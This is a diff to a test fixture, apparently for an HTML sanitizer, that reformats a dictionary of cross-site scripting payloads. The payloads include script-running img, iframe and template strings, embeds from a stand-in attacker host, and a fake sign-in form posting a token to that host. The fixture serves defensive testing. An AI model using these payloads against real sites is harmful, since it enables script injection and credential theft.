@@ -16,8 +16,7 @@ HOSTILE = {
     "img-onerror": "<img src=x onerror=alert(1)>",
     "img-remote": '<img src="https://evil.example/p.png">',
     "iframe": (
-        '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</scr'
-        'ipt>">'
+        '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</scr' 'ipt>">'
     ),
     "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
     "form": '<form action="https://evil.example"><input name=token><button>Sign in</button></form>',
@@ -83,8 +82,7 @@ HOSTILE = {
         "(1)>"
     ),
     "comment-and-cdata": (
-        "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]> <?php x ?"
-        ">"
+        "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]> <?php x ?" ">"
     ),
     "template": (
         "{{constructor.constructor('alert(1)')()}} ${alert(1)} <template><script>alert(1)</sc"
@@ -103,7 +101,6 @@ HOSTILE = {
         'example/"onx=1>'
     ),
     "prototype-names": (
-        "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n[__proto__] [constructor][toString"
-        "]"
+        "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n[__proto__] [constructor][toString" "]"
     ),
 }
